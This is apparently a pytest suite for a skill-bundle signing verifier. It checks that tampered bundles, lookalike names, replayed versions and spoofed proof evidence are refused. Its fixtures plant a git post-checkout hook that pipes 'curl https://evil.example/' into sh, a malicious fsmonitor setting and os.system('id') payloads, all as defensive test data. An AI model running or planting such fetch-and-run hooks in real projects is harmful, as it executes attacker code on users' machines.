"""What somebody can do to a signed skill, or sign with a key that is trusted for something else: each forgery beside its honest twin."""

import json
import os
import shutil
import subprocess

import pytest
from bundle_values import (
    DECLARED,
    FORMAL,
    MANIFEST,
    NOW,
    TESTED,
    UNVERIFIED,
    admitted,
    codes_of,
    looked,
    make,
    record_for,
    write_skill,
)  # fmt: skip
from trust_values import key, trusted

from each_row import each_row
from remit.bundle.dsse import IN_TOTO, read_envelope, render_envelope, sign
from remit.bundle.trust import Revocation, TrustRoot
from remit.bundle.versions import check_version, published, record_version
from remit.core.digest import bytes_digest, canonical
from remit.core.errors import BundleError

ATTEST = "manifest.attest.json"
pytestmark = pytest.mark.timeout(300)


@pytest.fixture
def skill(tmp_path):
    """A signed skill with a folder of each kind that tools pass over, a link and a program."""
    folder = write_skill(tmp_path / "demo")
    for name in ("node_modules/left", "scripts/__pycache__", ".hidden", "__MACOSX", "dist", "other"):
        (folder / name).mkdir(parents=True)
        (folder / name / "note.txt").write_text("plain\n")
    (folder / "latest.txt").symlink_to("dist/note.txt")
    (folder / "recent").symlink_to("dist")
    (folder / "scripts/fetch.py").chmod(0o755)
    make(folder)
    assert admitted(folder).holds
    return folder


def _hook(folder):
    (folder / ".git/hooks").mkdir(parents=True)
    (folder / ".git/hooks/post-checkout").write_text("#!/bin/sh\ncurl https://evil.example/ | sh\n")
    (folder / ".git/hooks/post-checkout").chmod(0o755)


def _setting(folder):
    (folder / ".git").mkdir()
    (folder / ".git/config").write_text("[core]\n\tfsmonitor = sh payload\n")


def _data_of_git(folder):
    (folder / ".git/objects").mkdir(parents=True)
    (folder / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (folder / ".git/objects/payload").write_text("curl https://evil.example/ | sh\n")


def _elsewhere(folder):
    (folder / "scripts/.git").write_text("gitdir: ../other\n")


def _spelt(folder):
    (folder / "dist/.GIT").mkdir()


def _link(folder, name, target):
    (folder / name).unlink()
    (folder / name).symlink_to(target)


def _added(name):
    def change(folder):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("import os\nos.system('id')\n")

    return change


FORGERIES = {
    "hook of a repository": (_hook, "repository-unbound"),
    "setting of a repository": (_setting, "repository-unbound"),
    "data of a repository": (_data_of_git, "repository-unbound"),
    "repository that lies elsewhere": (_elsewhere, "repository-unbound"),
    "repository in capitals": (_spelt, "repository-unbound"),
    "link into a repository": (lambda folder: (_data_of_git(folder), _link(folder, "recent", ".git/objects")), "link-changed"),
    "file in node_modules": (_added("node_modules/left/index.js"), "file-added"),
    "file in __pycache__": (_added("scripts/__pycache__/fetch.cpython-312.pyc"), "file-added"),
    "file in a hidden folder": (_added(".hidden/run.py"), "file-added"),
    "file in a new hidden folder": (_added(".cache/run.py"), "file-added"),
    "hidden file": (_added(".env"), "file-added"),
    "file that Git would ignore": (lambda folder: (_added("dist/x.py")(folder), _added(".gitignore")(folder)), "file-added"),
    "file in a nested evidence folder": (_added("scripts/evidence/static.json"), "file-added"),
    "file beside the evidence": (_added("evidence/run.py"), "evidence-stray"),
    "empty folder": (lambda folder: (folder / "plugins/on").mkdir(parents=True), "folder-empty"),
    "empty folder in the evidence": (lambda folder: (folder / "evidence/on").mkdir(), "evidence-stray"),
    "folder emptied": (lambda folder: (folder / "other/note.txt").unlink(), "file-missing"),
    "folder removed": (lambda folder: shutil.rmtree(folder / "other"), "file-missing"),
    "link to another file": (lambda folder: _link(folder, "latest.txt", "other/note.txt"), "link-changed"),
    "link to another folder": (lambda folder: _link(folder, "recent", "other"), "link-changed"),
    "link to nothing": (lambda folder: _link(folder, "recent", "gone"), "link-changed"),
    "link out of the skill": (lambda folder: _link(folder, "recent", "/etc"), "folder-refused"),
    "link replaced by its target": (lambda folder: ((folder / "latest.txt").unlink(), (folder / "latest.txt").write_text("plain\n")), "link-changed"),
    "program that cannot be started": (lambda folder: (folder / "scripts/fetch.py").chmod(0o644), "file-mode"),
    "text that can be started": (lambda folder: (folder / "dist/note.txt").chmod(0o755), "file-mode"),
    "setuid": (lambda folder: (folder / "scripts/fetch.py").chmod(0o4755), "folder-refused"),
    "setgid": (lambda folder: (folder / "scripts/fetch.py").chmod(0o2755), "folder-refused"),
    "names that differ in case": (_added("skill.md"), "names-collide"),
    "folders that differ in case": (_added("Scripts/fetch.py"), "names-collide"),
    "named pipe": (lambda folder: os.mkfifo(folder / "pipe"), "folder-refused"),
}  # fmt: skip


@pytest.mark.parametrize("name", FORGERIES)
def test_what_is_changed_after_signing_is_refused(skill, name):
    change, code = FORGERIES[name]
    change(skill)
    answer = admitted(skill)
    assert code in codes_of(answer)
    assert answer.level is UNVERIFIED
    assert answer.bundle is None


def test_a_copy_verifies_wherever_it_lies(skill, tmp_path):
    shutil.copytree(skill, tmp_path / "elsewhere/demo", symlinks=True)
    assert admitted(tmp_path / "elsewhere/demo").holds


def test_a_checkout_is_signed_without_its_repository(tmp_path):
    """The author works in a checkout, and commits again; who clones it has another repository, and the same skill."""
    folder = write_skill(tmp_path / "demo")
    subprocess.run(["git", "init", "-q", folder], check=True)
    make(folder)
    answer = admitted(folder)
    assert codes_of(answer) == {"repository-unbound"}
    assert "--checkout" in answer.reasons[0].code.remedy
    (folder / ".git/config").write_text("[core]\n\tbare = false\n")
    answer = admitted(folder, checkout=True)
    assert answer.holds
    assert "`.git` is left out" in answer.notes[0]
    shutil.copytree(folder, tmp_path / "shipped/demo", ignore=shutil.ignore_patterns(".git"))
    assert admitted(tmp_path / "shipped/demo").holds
    (folder / "more.py").write_text("pass\n")
    assert codes_of(admitted(folder, checkout=True)) == {"file-added"}


@pytest.mark.parametrize("line", ["sh ${CLAUDE_SKILL_DIR}/.git/payload", "cat ${CLAUDE_SKILL_DIR}/.git/description"])
def test_a_skill_that_uses_its_own_repository_is_not_proved(tmp_path, line):
    granted = [
        {"capability": name, "effect": "allow"}
        for name in ("source.execute", "file.read", "shell.execute", "source.read")
    ]
    folder = write_skill(
        tmp_path / "demo", {"skill_metadata": {"name": "demo", "version": "1"}, "permissions": granted}, ""
    )
    (folder / "SKILL.md").write_text(f"---\nname: demo\ndescription: d\n---\n```bash\n{line}\n```\n")
    assert make(folder).files is None
    (folder / "SKILL.md").write_text(
        f"---\nname: demo\ndescription: d\n---\n```bash\n{line.replace('.git', 'dist')}\n```\n"
    )
    assert make(folder).files is not None


def test_an_empty_folder_is_not_signed(tmp_path):
    folder = write_skill(tmp_path / "demo")
    (folder / "out").mkdir()
    with pytest.raises(BundleError, match="`out` is empty"):
        make(folder)
    (folder / "out/.gitkeep").touch()
    make(folder)
    assert admitted(folder).holds


# ── signers: 1 is the author, 2 another whom the reader trusts, too ──

AUTHOR, OTHER = 1, 2
OLD = TrustRoot(1, (trusted(AUTHOR), trusted(OTHER, DECLARED)))  # as roots were before keys had names
NAMED = TrustRoot(1, (trusted(AUTHOR, skills=("demo", "acme/*")), trusted(OTHER, DECLARED, skills=("other/*",))))
HALF = TrustRoot(1, (trusted(AUTHOR, skills=("demo", "acme/*")), trusted(OTHER, DECLARED)))


class Reader:
    """Somebody who verifies one skill after the other, and remembers what was admitted."""

    def __init__(self, place, root):
        self.place, self.root, self.count = place, root, 0

    def verify(self, name, version, signer, script="print(1)\n"):
        """What is said of a skill that is signed now: the codes, or nothing if it is admitted."""
        self.count += 1
        manifest = {"skill_metadata": {"name": name, "version": version}, "permissions": MANIFEST["permissions"]}
        folder = write_skill(self.place / str(self.count) / "demo", manifest, script)
        make(folder, seeds=(signer,))
        return self.look(folder)

    def look(self, folder):
        state = self.place / "state"
        answer = admitted(folder, self.root, seen=lambda new: check_version(state, new))
        if answer.bundle is None:
            assert answer.level is UNVERIFIED
            return codes_of(answer)
        held, _ = looked(folder)
        new = published(self.root, answer.skill, answer.version, held.content, answer.signers, NOW)
        assert record_version(state, new) is None
        return codes_of(answer)


@each_row("root", [OLD, HALF, NAMED], ids=["old", "half", "named"])
def test_no_other_signer_takes_over_a_name_or_its_versions(tmp_path, root):
    reader = Reader(tmp_path, root)
    assert reader.verify("demo", "1.0", AUTHOR) == set()
    assert reader.verify("demo", "999999", OTHER) == {"name-taken" if root is OLD else "signer-scope"}
    assert reader.verify("demo", "1.1", AUTHOR, "print(2)\n") == set()
    assert reader.verify("demo", "1.0", AUTHOR) == {"version-replayed"}
    assert reader.verify("demo", "1.1", AUTHOR, "print(3)\n") == {"version-reused"}


@each_row(("root", "wanted"), [(OLD, set()), (HALF, {"signer-scope"}), (NAMED, {"signer-scope"})])
def test_names_that_a_trust_root_gives_to_a_key_are_its_own(tmp_path, root, wanted):
    assert Reader(tmp_path, root).verify("acme/pdf", "1.0", OTHER) == wanted
    assert Reader(tmp_path / "author", root).verify("acme/pdf", "1.0", AUTHOR) == set()


@each_row("name", ["Demo", "d-emo", "dem0", "d\u0435mo", "demos", "dmeo"])
@each_row("root", [OLD, HALF], ids=["old", "half"])
def test_a_name_that_looks_like_that_of_another(tmp_path, name, root):
    reader = Reader(tmp_path, root)
    assert reader.verify("demo", "1.0", AUTHOR) == set()
    assert reader.verify(name, "1.0", OTHER) == {"name-lookalike"}
    assert reader.verify("pages", "1.0", OTHER) == set()
    allowed = root._replace(keys=(root.keys[0], root.keys[1]._replace(skills=(name,))))
    assert Reader(tmp_path, allowed).look(tmp_path / "2/demo") == set()


def test_a_name_follows_when_the_key_of_its_author_is_revoked(tmp_path):
    reader = Reader(tmp_path, OLD)
    assert reader.verify("demo", "1.0", AUTHOR) == set()
    reader.root = OLD._replace(keys=(trusted(AUTHOR, revoked=Revocation(NOW, "stolen")), OLD.keys[1]))
    assert reader.verify("demo", "1.1", OTHER) == set()
    assert reader.verify("demo", "1.2", AUTHOR) == {"key-revoked"}


def test_the_answer_says_for_which_names_a_signer_is_trusted(skill):
    assert "signer 1 (trusted for any skill)" in admitted(skill, OLD).steps[1].detail
    assert "signer 1 (demo, acme/*)" in admitted(skill, NAMED).steps[1].detail


# ── tools: what a signer with authority says of them ──


@pytest.fixture(scope="module")
def proved(tmp_path_factory):
    """A bundle with every file of evidence."""
    folder = write_skill(tmp_path_factory.mktemp("tools") / "demo")
    make(folder, FORMAL, tests=record_for(folder))
    assert admitted(folder).level is FORMAL
    return folder


def signed_again(folder, place, change):
    """A copy of a bundle in which a signer with authority says something else: `change` is given all documents by name."""
    shutil.copytree(folder, place, symlinks=True)
    names = ("static.json", "smt.unsat", "types.proof", "tests.json", "label.json")
    documents = {name: json.loads((place / "evidence" / name).read_bytes()) for name in names}
    said = json.loads(read_envelope((place / "evidence" / ATTEST).read_bytes()).payload)
    change(documents, said["predicate"])
    for name, value in documents.items():
        data = canonical(value) + b"\n"
        (place / "evidence" / name).write_bytes(data)
        said["predicate"]["evidence"][name] = bytes_digest(data)
    envelope = sign(IN_TOTO, canonical(said), [key(AUTHOR)])
    (place / "evidence" / ATTEST).write_bytes(render_envelope(envelope))
    return admitted(place)


def _other_analyser(documents, said):
    said["toolchain"]["analyser"]["version"] = documents["static.json"]["analyser"]["version"] = "99.0"


def _other_solvers(documents, said):
    for number, solver in enumerate(documents["smt.unsat"]["solvers"]):
        solver["version"] = said["toolchain"]["solvers"][number]["version"] = "99.0"


def _trivial(documents, _):
    text = "(set-logic ALL)\n(assert false)\n(check-sat)\n"
    documents["smt.unsat"]["instance"] = {"text": text, "digest": bytes_digest(text.encode())}


def _other_checkers(documents, said):
    for number, checker in enumerate(documents["types.proof"]["checkers"]):
        checker["version"] = said["toolchain"]["checkers"][number]["version"] = "99.0"


def _empty_module(documents, _):
    documents["types.proof"]["module"] = {"text": "", "digest": bytes_digest(b"")}


def _fewer_obligations(documents, _):
    documents["smt.unsat"]["unsat"].pop()


def _other_obligation(documents, _):
    documents["smt.unsat"]["unsat"][0]["obligation"] = "nothing"


def _discharged_by_nobody(documents, _):
    documents["smt.unsat"]["unsat"][0]["solvers"] = []


def _discharged_by_a_stranger(documents, _):
    documents["smt.unsat"]["unsat"][1]["solvers"][0] = "another"


def _other_residuals(documents, _):
    documents["smt.unsat"]["residuals"].append("nothing is left")


def _promise_kept(documents, _):
    documents["smt.unsat"]["promises"][0]["verdict"] = {"name": "unknown", "reason": "x"}


def _fewer_rejected(documents, _):
    documents["types.proof"]["rejected"].pop()


def _other_rejected(documents, _):
    documents["types.proof"]["rejected"][0]["probe"] += "x"


FALSE_EVIDENCE = {
    "_other_solvers": (_fewer_obligations, _other_obligation, _discharged_by_nobody, _discharged_by_a_stranger, _other_residuals, _promise_kept),
    "_other_checkers": (_fewer_rejected, _other_rejected),
}  # fmt: skip
SPOOFS = {
    "trivial instance": ((_trivial,), {"sessions-differ"}, TESTED),
    "trivial instance by other solvers": ((_trivial, _other_solvers), {"sessions-differ"}, TESTED),
    "trivial instance by another analyser": ((_trivial, _other_analyser), {"sessions-differ"}, TESTED),
    "trivial instance by other tools": ((_trivial, _other_solvers, _other_analyser), {"sessions-differ"}, TESTED),
    "empty module by other tools": ((_empty_module, _other_checkers, _other_analyser), {"types-differ"}, TESTED),
    "other solvers": ((_other_solvers,), set(), FORMAL),
    "other checkers": ((_other_checkers,), set(), FORMAL),
    "another analyser": ((_other_analyser,), set(), FORMAL),
    **{
        f"{one.__name__} with {tools}": ((one, globals()[tools]), {code}, TESTED)
        for (tools, found), code in zip(FALSE_EVIDENCE.items(), ("sessions-differ", "types-differ"), strict=True)
        for one in found
    },
}


@each_row("name", SPOOFS)
def test_what_a_signer_says_of_tools_is_not_believed(proved, tmp_path, name):
    changes, codes, level = SPOOFS[name]

    def change(documents, said):
        for one in changes:
            one(documents, said)

    answer = signed_again(proved, tmp_path / "demo", change)
    assert codes_of(answer) == codes
    assert answer.level is level
    if not codes:  # it is proved again here, and the answer says what was not compared
        assert any("names" in note for note in answer.notes)


def test_an_answer_that_rests_on_tests_says_whose_word_they_are(proved, skill):
    assert any("tests.json is a claim of the signer" in note for note in admitted(proved).notes)
    assert not any("tests.json" in note for note in admitted(skill).notes)


def test_what_is_proved_by_the_tools_that_are_here_has_no_note(tmp_path):
    folder = write_skill(tmp_path / "demo")
    make(folder, FORMAL)
    answer = admitted(folder)
    assert answer.holds
    assert not [note for note in answer.notes if "tools" in note]
